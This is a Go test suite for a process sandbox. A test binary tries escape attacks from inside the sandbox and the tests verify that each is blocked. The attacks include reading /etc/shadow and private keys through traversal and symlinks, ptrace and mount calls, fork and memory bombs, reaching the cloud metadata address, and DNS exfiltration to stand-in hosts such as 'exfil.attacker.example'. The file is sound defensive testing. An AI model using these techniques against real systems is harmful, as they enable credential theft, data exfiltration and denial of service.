package sandbox_test

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"

	"github.com/bulkhead-dev/bulkhead/internal/sandbox"
	"github.com/bulkhead-dev/bulkhead/internal/sandbox/sandboxtest"
)

// envAttack makes the test binary, run inside a sandbox, try one attack
// and say how it went instead of running tests.
const envAttack = "BULKHEAD_SANDBOX_ATTACK"

func TestMain(m *testing.M) {
	sandbox.MaybeInit()
	if a := os.Getenv(envAttack); a != "" {
		os.Exit(attack(a, os.Args[1:]))
	}
	os.Exit(m.Run())
}

// attack runs inside the sandbox. It prints "escaped: ..." and exits 0 if
// the attack worked, "blocked: ..." and exits 1 if it did not.
func attack(name string, args []string) int {
	blocked := func(err error) int { fmt.Printf("blocked: %v\n", err); return 1 }
	escaped := func(what string) int { fmt.Printf("escaped: %s\n", what); return 0 }
	read := func(path string) int {
		b, err := os.ReadFile(path)
		if err != nil {
			return blocked(err)
		}
		return escaped(fmt.Sprintf("read %d bytes of %s", len(b), path))
	}
	switch name {
	case "read":
		return read(args[0])
	case "write":
		if err := os.WriteFile(args[0], []byte("pwned"), 0o644); err != nil {
			return blocked(err)
		}
		return escaped("wrote " + args[0])
	case "symlink":
		// A link in the private /tmp to a host path, followed.
		if err := os.Symlink(args[0], "/tmp/link"); err != nil {
			return blocked(err)
		}
		return read("/tmp/link")
	case "connect":
		c, err := net.Dial("tcp", args[0])
		if err != nil {
			return blocked(err)
		}
		c.Close()
		return escaped("connected to " + args[0])
	case "resolve":
		addrs, err := net.LookupHost(args[0])
		if err != nil {
			return blocked(err)
		}
		return escaped(fmt.Sprintf("resolved %s to %v", args[0], addrs))
	case "via-proxy":
		// What the sandbox's proxy says to CONNECT args[0].
		c, err := net.Dial("tcp", os.Getenv("HTTP_PROXY")[len("http://"):])
		if err != nil {
			return blocked(err)
		}
		defer c.Close()
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", args[0], args[0])
		line, err := bufio.NewReader(c).ReadString('\n')
		if err != nil {
			return blocked(err)
		}
		fmt.Printf("proxy: %s", line)
		if strings.Contains(line, " 200 ") {
			return escaped("connected through the proxy")
		}
		return 1
	case "ptrace":
		if _, _, e := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_ATTACH, 1, 0, 0, 0, 0); e != 0 {
			return blocked(e)
		}
		return escaped("attached to pid 1")
	case "mount":
		if err := unix.Mount("tmpfs", "/tmp", "tmpfs", 0, ""); err != nil {
			return blocked(err)
		}
		return escaped("mounted")
	case "unshare":
		if err := unix.Unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNS); err != nil {
			return blocked(err)
		}
		return escaped("unshared")
	case "raw-socket":
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
		if err != nil {
			return blocked(err)
		}
		unix.Close(fd)
		return escaped("opened a raw socket")
	case "packet-socket":
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return blocked(err)
		}
		unix.Close(fd)
		return escaped("opened a packet socket")
	case "io_uring":
		var params [120]byte
		if _, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafePointer(&params[0])), 0); e != 0 {
			return blocked(e)
		}
		return escaped("set up an io_uring")
	case "fork-bomb":
		var procs []*exec.Cmd
		defer func() {
			for _, p := range procs {
				_ = p.Process.Kill()
			}
		}()
		for range 200 {
			c := exec.Command("/bin/sleep", "30")
			if err := c.Start(); err != nil {
				return blocked(fmt.Errorf("after %d processes: %w", len(procs), err))
			}
			procs = append(procs, c)
		}
		return escaped("started 200 processes")
	case "memory-bomb":
		var keep [][]byte
		for i := range 64 {
			b := make([]byte, 16<<20)
			for j := 0; j < len(b); j += 4096 {
				b[j] = 1
			}
			keep = append(keep, b)
			_ = i
		}
		return escaped(fmt.Sprintf("held %d MiB", 16*len(keep)))
	case "orphans":
		// A tool that leaves short-lived grandchildren behind, many more
		// than its pids budget: they must be reaped, not pile up.
		for i := range 60 {
			if err := exec.Command("/bin/sh", "-c", "/bin/sleep 0 & exit 0").Run(); err != nil {
				return blocked(fmt.Errorf("after %d: %w", i, err))
			}
		}
		return escaped("left 60 orphans behind")
	case "legit":
		// What a tool is allowed: read what the profile lists, write to
		// its write dir and to its private /tmp.
		if _, err := os.ReadFile(args[0]); err != nil {
			return blocked(err)
		}
		if err := os.WriteFile(args[1], []byte("ok"), 0o644); err != nil {
			return blocked(err)
		}
		if err := os.WriteFile("/tmp/scratch", []byte("ok"), 0o644); err != nil {
			return blocked(err)
		}
		return escaped("worked")
	}
	fmt.Println("unknown attack", name)
	return 2
}

// fixture is a profile and the files around it.
type fixture struct {
	bin     string // the test binary, where the sandbox can run it
	allowed string // a directory the profile lets it read
	secret  string // a file outside everything the profile lists
	out     string // a directory it may write
}

func newFixture(t *testing.T) fixture {
	t.Helper()
	if err := sandbox.Check().Enforce(); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("sandbox unavailable under CI=true: %v", err)
		}
		t.Skipf("sandbox unavailable here: %v", err)
	}
	// World-readable directories: inside, the sandbox's root is an
	// unprivileged user of the host.
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	binDir, bin := sandboxtest.Stage(t, self, "attacker")
	base := filepath.Dir(binDir)
	base, err = os.MkdirTemp(base, "bulkhead-sandbox-fixture-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	f := fixture{bin: bin, allowed: filepath.Join(base, "allowed"), secret: filepath.Join(base, "data", "svid_key.pem"),
		out: filepath.Join(base, "out")}
	for _, d := range []string{base, f.allowed, filepath.Dir(f.secret), f.out} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(d, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(f.allowed, "doc.txt"), []byte("public"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Readable by anyone on the host: only the sandbox keeps it out.
	if err := os.WriteFile(f.secret, []byte("-----BEGIN PRIVATE KEY-----"), 0o644); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f fixture) profile() sandbox.Profile {
	p := sandbox.Strict()
	p.Read = append(p.Read, filepath.Dir(f.bin), f.allowed)
	p.Write = []string{f.out}
	p.Memory, p.Pids = 96<<20, 16
	return p
}

// run runs one attack in a sandbox and returns its output and exit.
func (f fixture) run(t *testing.T, p sandbox.Profile, name string, args ...string) (string, error) {
	t.Helper()
	out, _, err := f.runWith(t, p, nil, name, args...)
	return out, err
}

func (f fixture) runWith(t *testing.T, p sandbox.Profile, adjust func(*sandbox.Confined), name string, args ...string) (string, []sandbox.Violation, error) {
	t.Helper()
	p.Env = []string{"PATH=/usr/bin:/bin", envAttack + "=" + name}
	cmd := exec.Command(f.bin, args...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	c, err := sandbox.Wrap(cmd, p)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if adjust != nil {
		adjust(c)
	}
	var mu sync.Mutex
	var violations []sandbox.Violation
	c.OnViolation = func(v sandbox.Violation) { mu.Lock(); violations = append(violations, v); mu.Unlock() }
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	if err := c.Started(); err != nil {
		t.Fatal(err)
	}
	err = cmd.Wait()
	mu.Lock()
	defer mu.Unlock()
	return out.String(), append([]sandbox.Violation(nil), violations...), err
}

// A compromised tool server, confined by the strict profile plus what it
// needs, tries every way out it can think of. Each attempt fails; the
// same sandbox still serves legitimate use.
func TestCompromisedToolCannotEscape(t *testing.T) {
	f := newFixture(t)
	p := f.profile()
	for _, c := range []struct {
		name, attack string
		args         []string
		// syscall is the violation the supervisor must report, if the
		// seccomp layer is what refuses.
		syscall string
	}{
		{"read /etc/shadow", "read", []string{"/etc/shadow"}, ""},
		{"read /etc/passwd", "read", []string{"/etc/passwd"}, ""},
		{"read another agent's key", "read", []string{f.secret}, ""},
		{"read the control plane's data dir", "read", []string{"/var/lib/bulkhead/bulkhead.db"}, ""},
		{"read through /proc/self/root", "read", []string{"/proc/self/root" + f.secret}, ""},
		{"read through /proc/1/root", "read", []string{"/proc/1/root/etc/shadow"}, ""},
		{"read with .. out of an allowed dir", "read", []string{f.allowed + "/../data/svid_key.pem"}, ""},
		{"follow a symlink out", "symlink", []string{f.secret}, ""},
		{"write a system file", "write", []string{"/usr/bin/pwned"}, ""},
		{"write into a read-only dir", "write", []string{f.allowed + "/pwned"}, ""},
		{"write next to the data", "write", []string{filepath.Dir(f.secret) + "/pwned"}, ""},
		{"connect to PostgreSQL", "connect", []string{"127.0.0.1:5432"}, ""},
		{"connect to the cloud metadata address", "connect", []string{"169.254.169.254:80"}, ""},
		{"resolve a name (DNS exfiltration)", "resolve", []string{"exfil.attacker.example"}, ""},
		{"ptrace", "ptrace", nil, "ptrace"},
		{"mount", "mount", nil, "mount"},
		{"unshare a user namespace", "unshare", nil, "unshare"},
		{"raw socket", "raw-socket", nil, "socket"},
		{"packet socket", "packet-socket", nil, "socket"},
		{"io_uring", "io_uring", nil, "io_uring_setup"},
		{"fork bomb", "fork-bomb", nil, ""},
		{"memory bomb", "memory-bomb", nil, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			out, violations, err := f.runWith(t, p, nil, c.attack, c.args...)
			if c.syscall != "" && !slices.ContainsFunc(violations, func(v sandbox.Violation) bool { return v.Syscall == c.syscall }) {
				t.Fatalf("no violation reported for %s: %v", c.syscall, violations)
			}
			if strings.Contains(out, "escaped:") || err == nil {
				t.Fatalf("the attack worked: %s (exit %v)", out, err)
			}
			var ee *exec.ExitError
			if !errors.As(err, &ee) {
				t.Fatalf("the sandbox did not run: %v: %s", err, out)
			}
			// Killed: the command's SIGKILL, as the sandbox's PID 1 reports it.
			if !strings.Contains(out, "blocked:") && ee.ExitCode() != 128+int(syscall.SIGKILL) {
				t.Fatalf("neither refused nor killed: %v: %s", err, out)
			}
			t.Logf("%s", strings.TrimSpace(out))
		})
	}
	t.Run("legitimate use still works", func(t *testing.T) {
		out, err := f.run(t, p, "legit", filepath.Join(f.allowed, "doc.txt"), filepath.Join(f.out, "result"))
		if err != nil || !strings.Contains(out, "escaped: worked") {
			t.Fatalf("legitimate use failed: %v: %s", err, out)
		}
		if b, err := os.ReadFile(filepath.Join(f.out, "result")); err != nil || string(b) != "ok" {
			t.Fatalf("the write dir did not receive the result: %q %v", b, err)
		}
	})
}

// With the mount layer opened up (the host's whole root bound in),
// Landlock alone still refuses what the profile does not list: files any
// host user may read, and writes anywhere but the write dir; and
// seccomp alone still refuses what it refuses.
func TestLayersHoldWithoutTheMountLayer(t *testing.T) {
	f := newFixture(t)
	p := f.profile()
	wide := func(c *sandbox.Confined) { sandbox.WideRootForTest(c) }
	for _, c := range []struct {
		attack string
		args   []string
	}{
		{"read", []string{"/etc/passwd"}},
		{"read", []string{f.secret}},
		{"write", []string{filepath.Dir(f.secret) + "/pwned"}},
		{"ptrace", nil},
		{"mount", nil},
	} {
		out, _, err := f.runWith(t, p, wide, c.attack, c.args...)
		if err == nil || !strings.Contains(out, "blocked:") {
			t.Fatalf("%s %v with the host's root visible: %v: %s", c.attack, c.args, err, out)
		}
		t.Logf("%s %v: %s", c.attack, c.args, strings.TrimSpace(out))
	}
	// The file was there to be read: the mount layer was open.
	out, _, _ := f.runWith(t, p, wide, "read", filepath.Join(f.allowed, "doc.txt"))
	if !strings.Contains(out, "escaped:") {
		t.Fatalf("the wide root did not show the allowed file: %s", out)
	}
}

func TestProfileRefusals(t *testing.T) {
	for _, c := range []struct{ yaml, want string }{
		{"read: [relative]\n", "absolute"},
		{"read: [/usr/../etc]\n", "clean"},
		{"write: [/proc]\n", "sandbox's own"},
		{"write: [/]\n", "sandbox's own"},
		{"egress: api.example.com\n", "egress"},
		{"bogus: 1\n", "bogus"},
		{"memory: 1024\n", "16 MiB"},
		{"env: [NOEQUALS]\n", "NAME=VALUE"},
	} {
		if _, err := sandbox.ParseProfile([]byte(c.yaml)); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: %v, want an error about %q", c.yaml, err, c.want)
		}
	}
	p, err := sandbox.ParseProfile([]byte("read: [/srv/docs]\nwrite: [/srv/out]\nmemory: 268435456\npids: 32\n"))
	if err != nil || p.Egress != "none" || p.Pids != 32 {
		t.Fatalf("%+v %v", p, err)
	}
}

// With egress through the proxy, the only connection a sandbox can open
// is to the proxy inside it, which whoever started the sandbox serves:
// here a proxy that records the target and refuses. Every other
// destination stays refused. Names resolve only through the DNS stub
// beside it, served the same way: here one that knows one name.
func TestEgressOnlyThroughTheProxy(t *testing.T) {
	f := newFixture(t)
	p := f.profile()
	p.Egress = sandbox.EgressProxy
	asked := make(chan string, 16)
	serve := func(c *sandbox.Confined) {
		c.ServeEgress = func(l net.Listener, dns net.PacketConn) {
			go answerOneName(dns, "api.example.test.", [4]byte{192, 0, 2, 7}, asked)
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				line, _ := bufio.NewReader(conn).ReadString('\n')
				asked <- strings.TrimSpace(line)
				fmt.Fprint(conn, "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
				conn.Close()
			}
		}
	}
	out, _, _ := f.runWith(t, p, serve, "via-proxy", "api.example.test:443")
	if !strings.Contains(out, "proxy: HTTP/1.1 403") {
		t.Fatalf("the proxy did not answer: %s", out)
	}
	if got := <-asked; got != "CONNECT api.example.test:443 HTTP/1.1" {
		t.Fatalf("the proxy was asked %q", got)
	}
	for _, addr := range []string{"127.0.0.1:5432", "10.0.0.1:443", "127.0.0.1:3129"} {
		out, _, err := f.runWith(t, p, serve, "connect", addr)
		if err == nil || !strings.Contains(out, "blocked:") {
			t.Fatalf("connect %s beside the proxy: %s", addr, out)
		}
	}
	out, _, err := f.runWith(t, p, serve, "resolve", "api.example.test")
	if err != nil || !strings.Contains(out, "[192.0.2.7]") {
		t.Fatalf("an allowed name through the stub: %v: %s", err, out)
	}
	// Exfiltration through a name: the question reaches the stub, whose
	// server refuses it, and nothing else.
	out, _, err = f.runWith(t, p, serve, "resolve", "c2VjcmV0.evil.example")
	if err == nil || !strings.Contains(out, "blocked:") {
		t.Fatalf("an unknown name resolved: %s", out)
	}
	seen := map[string]bool{}
	for len(asked) > 0 {
		seen[<-asked] = true
	}
	if !seen["dns A api.example.test."] || !seen["dns A c2VjcmV0.evil.example."] {
		t.Fatalf("the stub was not asked: %v", seen)
	}
}

// answerOneName answers A questions for name with addr, and every other
// question with NXDOMAIN, telling asked what it was asked.
func answerOneName(pc net.PacketConn, name string, addr [4]byte, asked chan<- string) {
	buf := make([]byte, 512)
	for {
		n, from, err := pc.ReadFrom(buf)
		if err != nil {
			return
		}
		var p dnsmessage.Parser
		h, err := p.Start(buf[:n])
		if err != nil {
			continue
		}
		q, err := p.Question()
		if err != nil {
			continue
		}
		if q.Type == dnsmessage.TypeA {
			asked <- "dns A " + q.Name.String()
		}
		b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, RecursionAvailable: true, RCode: dnsmessage.RCodeNameError})
		if q.Name.String() == name {
			b = dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, RecursionAvailable: true})
		}
		_ = b.StartQuestions()
		_ = b.Question(q)
		_ = b.StartAnswers()
		if q.Name.String() == name && q.Type == dnsmessage.TypeA {
			_ = b.AResource(dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 30}, dnsmessage.AResource{A: addr})
		}
		if msg, err := b.Finish(); err == nil {
			_, _ = pc.WriteTo(msg, from)
		}
	}
}

// The sandbox's PID 1 reaps what a tool leaves behind: a session that
// orphans more processes than its pids budget keeps working.
func TestOrphansAreReaped(t *testing.T) {
	f := newFixture(t)
	p := f.profile()
	p.Pids = 32 // room for the Go runtimes' threads, not for 60 zombies
	out, err := f.run(t, p, "orphans")
	if err != nil || !strings.Contains(out, "escaped: left 60 orphans") {
		t.Fatalf("orphans were not reaped: %v: %s", err, out)
	}
}
